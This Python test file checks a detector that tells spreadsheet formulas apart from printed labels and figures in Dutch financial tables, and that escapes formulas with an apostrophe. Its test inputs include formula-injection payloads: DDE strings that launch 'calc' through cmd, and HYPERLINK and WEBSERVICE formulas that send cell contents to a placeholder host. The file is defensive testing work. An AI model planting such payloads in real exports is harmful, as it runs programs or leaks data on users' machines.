"""What a spreadsheet would run is told from what is only print."""

from __future__ import annotations

import csv
import io
import sys
import unicodedata

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import REPOSITORY
from tests.report.naughty import EVERY, FORMULA, FORMULA_CONTROL
from tieout.findings.formulas import judge_formulas
from tieout.values.spreadsheet import LEADS, WIDE_LEADS, inert, runs

FORMULAS = {
    "a sum": "=SUM(A1:A2)",
    "arithmetic, the whole cell": "=1+1",
    "row numbers, the whole cell": "=1+2+3+4",
    "one other cell": "=A1",
    "a number to keep its zeros": '="0012"',
    "another program": "=cmd|' /C calc'!A0",
    "another program behind a plus": "+cmd|' /C calc'!A0",
    "another program behind arithmetic": "-2+3+cmd|' /C calc'!A0",
    "another program behind a call": "@SUM(1+1)*cmd|' /C calc'!A0",
    "another program without quotes": "+msexcel|tabel!r1k1",
    "a link": '=HYPERLINK("http://tieout.invalid/"&A1,"klik")',
    "a link behind a plus": '+HYPERLINK("http://tieout.invalid/")',
    "a link behind a plus and a space": '+ hyperlink("http://tieout.invalid/")',
    "a question to the web": '-1+WEBSERVICE("http://tieout.invalid/")',
    "a new function by its full name": "=_xlfn.WEBSERVICE(A1)",
    "another sheet": "+Blad2!A1",
    "another file": "='[elders.xlsx]Blad1'!A1",
    "behind a tab": "\t=1+1",
    "behind a line end": "\r\n=1+1",
    "behind a zero byte": "\x00=1+1",
    "behind spaces": "   =1+1",
    "behind a quote": '"=1+1',
    "behind what cannot be seen": "\ufeff\u200b=1+1",
    "full-width": "＝1+1",
    "full-width letters": "＋ＳＵＭ（Ａ１：Ａ２）",
    "a Dutch name": "=SOM(A1;A2)",
    "a Dutch name behind a minus": "-SOM(A1;A2)",
    "a known name and a space": "=SUM (A1:A2)",
    "an unknown name": "=doe(1)",
    "cells behind a plus": "+A1+A2",
    "a range behind a minus": "-A1:A9",
    "an at sign": "@SUM(A1:A9)",
    "an at sign behind an equals sign": "=@A1",
}
PRINT = {
    "nothing": "",
    "a dash": "-",
    "a long dash": "‒",
    "minus in print": "-/-",
    "plus in print": "+/+",
    "an equals sign": "=",
    "two equals signs": "==",
    "a negative percentage": "-0,84%",
    "a negative percentage with another dash": "‒ 0,84%",
    "a dash, a space and a figure": "- 1.234",
    "a figure with minus in print": "-/- 70",
    "a figure with a plus": "+12",
    "a margin": "+1/-1%",
    "arithmetic of bare numbers behind a sign": "-5+3",
    "a telephone number": "+31 70 123 45 67",
    "a sublabel": "- waarvan rente (leningen)",
    "a sublabel against its dash": "-Personele kosten",
    "a label with minus in print": "-/- Dotatie",
    "a label with plus in print": "+/+ totaal ontvangsten operationele kasstroom",
    "a label with a plus": "+ rentebaten",
    "a numbered label": "-1- Personeel",
    "row numbers in a label": "Rekening-courant RHB 31 december (=1+2+3+4)",
    "row numbers in brackets": "(=1+2)",
    "a formula of columns": "(3)=(2)-(1)",
    "a name": "@ Rijk",
    "a name against its sign": "@Rijk",
    "a grade": "- B2",
    "grades": "- B2/B3",
    "a footnote": "- Omzet(1)",
    "a label that is called as a function is": "- Som (1+2)",
    "a word that is a function, with words": "- Minimum (max)",
    "a bar": "- a | b",
    "an exclamation mark": "- Let op! A1",
    "an equals sign and words": "= Saldo van baten en lasten",
    "an equals sign, words and row numbers": "= Saldo van baten en lasten (1+2)",
    "a formula made inert": "'=1+1",
    "an equals sign within": "A1=B1",
}
"""None of these may be found: the tables of agencies are full of them."""
WRITTEN = {
    "a formula": ("=1+1", "'=1+1"),
    "behind spaces": ("  =1+1", "'  =1+1"),
    "behind a quote": ('"=1+1', "'\"=1+1"),
    "behind an apostrophe": ("'=1+1", "''=1+1"),
    "a plus": ("+cmd", "'+cmd"),
    "an at sign": ("@Rijk", "'@Rijk"),
    "a tab": ("\tx", "'\tx"),
    "a carriage return": ("\rx", "'\rx"),
    "a zero byte": ("\x00x", "'\x00x"),
    "a tab behind a space": (" \tx", "' \tx"),
    "full-width": ("＝1+1", "'＝1+1"),
    "a sublabel": ("- waarvan rente", "'- waarvan rente"),
    "a label with minus in print": ("-/- Dotatie", "'-/- Dotatie"),
    "a figure and more": ("-5+3", "'-5+3"),
    "a date": ("-1-2022", "'-1-2022"),
    "a negative percentage": ("-0,84%", "-0,84%"),
    "a dash, a space and a figure": ("- 1.234", "- 1.234"),
    "another dash": ("‒ 5", "‒ 5"),
    "a plus and a figure": ("+12", "+12"),
    "euros": ("-€ 5", "-€ 5"),
    "a figure with minus in print": ("-/- 70", "-/- 70"),
    "a machine's figure": ("-1.5e-7", "-1.5e-7"),
    "a dash": ("-", "-"),
    "minus in print": ("-/-", "-/-"),
    "plus in print": ("+/+", "+/+"),
    "a label": ("Omzet (=1+2)", "Omzet (=1+2)"),
    "an apostrophe": ("'t Gooi", "'t Gooi"),
    "nothing": ("", ""),
}


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_a_formula_is_told(text):
    assert runs(text)


@pytest.mark.parametrize("text", [*FORMULA, *FORMULA_CONTROL], ids=ascii)
def test_every_formula_of_the_naughty_texts_is_told(text):
    assert runs(text)


@pytest.mark.parametrize("text", PRINT.values(), ids=PRINT)
def test_print_is_no_formula(text):
    assert not runs(text)


def test_no_cell_of_any_printed_table_here_is_a_formula():
    cells = {
        cell
        for path in [*REPOSITORY.glob("data/*/*.csv"), *REPOSITORY.glob("tests/**/*.csv")]
        for row in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
        for cell in row
    }
    assert len(cells) > 1_500
    assert sum(cell[:1] in {"-", "+", "="} for cell in cells) > 20
    assert [cell for cell in cells if runs(cell)] == []


def test_every_character_that_reads_as_a_lead_is_looked_for():
    reading = {
        char
        for char in map(chr, range(sys.maxunicode + 1))
        if unicodedata.normalize("NFKC", char)[0] in LEADS and char not in LEADS
    }
    assert reading == set(WIDE_LEADS)


@pytest.mark.parametrize(("text", "written"), WRITTEN.values(), ids=WRITTEN)
def test_what_a_spreadsheet_might_run_is_written_with_an_apostrophe(text, written):
    assert inert(text) == written


def test_whatever_would_run_is_written_inert():
    assert [text for text in (*EVERY, *FORMULAS.values()) if runs(inert(text))] == []


@given(st.text() | st.sampled_from(EVERY) | st.text(alphabet="=+-@' \t\"1a(", max_size=6))
def test_a_text_made_inert_can_be_had_back(text):
    written = inert(text)
    given_one = written.startswith("'") and inert(written[1:]) == written
    assert (written[1:] if given_one else written) == text
    assert not runs(written)


@pytest.fixture
def judged():
    """Judge cells and heads that are laid out as a run has them, in two tables; the second is another's."""

    def judge(heads, rows):
        connection = duckdb.connect()
        connection.execute(
            """
            CREATE TABLE tables (
                table_order INTEGER, table_name VARCHAR, file VARCHAR, own BOOLEAN, header_line INTEGER,
                wide_from BIGINT
            );
            CREATE TABLE columns (table_name VARCHAR, column_no INTEGER, column_label VARCHAR);
            CREATE TABLE cells (
                table_name VARCHAR, file VARCHAR, line_no INTEGER, column_no INTEGER, column_label VARCHAR,
                printed VARCHAR
            );
            """
        )
        for order, (name, own) in enumerate((("t", True), ("beside/t", False))):
            connection.execute("INSERT INTO tables VALUES (?, ?, ?, ?, 1, NULL)", [order, name, f"{name}.csv", own])
            for column, head in enumerate(heads, 1):
                connection.execute("INSERT INTO columns VALUES (?, ?, ?)", [name, column, head])
                for line, row in enumerate(rows, 2):
                    cell = [name, f"{name}.csv", line, column, head, row[column - 1]]
                    connection.execute("INSERT INTO cells VALUES (?, ?, ?, ?, ?, ?)", cell)
        try:
            return judge_formulas(connection)
        finally:
            connection.close()

    return judge


def test_a_table_without_a_formula_passes(judged):
    (rule,), (outcome,), findings = judged(["label", "2022"], [["- waarvan rente", "-5"], ["-/-", "- 1.234"]])
    assert (rule.name, rule.severity) == ("cell_is_no_formula", "warning")
    assert (outcome.state, outcome.examined, outcome.breaches) == ("passed", 6, 0)
    assert findings == []


def test_a_table_with_formulas_fails_at_each_place_of_its_own(judged):
    rows = [["=1+1", "-5"], ["a", "@SUM(A1:A2)"], ["=1+1", "-5"]]
    _, (outcome,), findings = judged(["label", "=cmd|'x'!A0"], rows)
    assert (outcome.state, outcome.examined, outcome.breaches, outcome.exact) == ("failed", 6, 3, 3)
    places = {finding.places[0].printed: [(p.file, p.line, p.column) for p in finding.places] for finding in findings}
    assert places == {
        "=1+1": [("t.csv", 2, 1), ("t.csv", 4, 1)],
        "=cmd|'x'!A0": [("t.csv", 1, 2)],
        "@SUM(A1:A2)": [("t.csv", 3, 2)],
    }
    twice = next(finding for finding in findings if len(finding.places) == 2)
    assert twice.message.en == 'A spreadsheet would run "=1+1", in 2 places.'
    assert twice.message.nl == 'Een rekenblad zou "=1+1" uitvoeren, op 2 plaatsen.'


def test_an_answer_to_one_formula_covers_no_other(judged):
    ids = [judged(["label"], [[text]])[2][0].id for text in ("=1+1", "=1+2", "=1+1")]
    assert ids[0] == ids[2] != ids[1]


def test_where_there_is_no_table_nothing_was_examined(judged):
    _, (outcome,), findings = judged([], [])
    assert (outcome.state, outcome.examined, findings) == ("empty", 0, [])


@pytest.mark.rare
@pytest.mark.parametrize("text", [*FORMULAS.values(), *FORMULA, *FORMULA_CONTROL], ids=ascii)
def test_the_database_leaves_no_formula_out(judged, text):
    assert [finding.places[0].printed for finding in judged(["label"], [[text]])[2]] == [text]
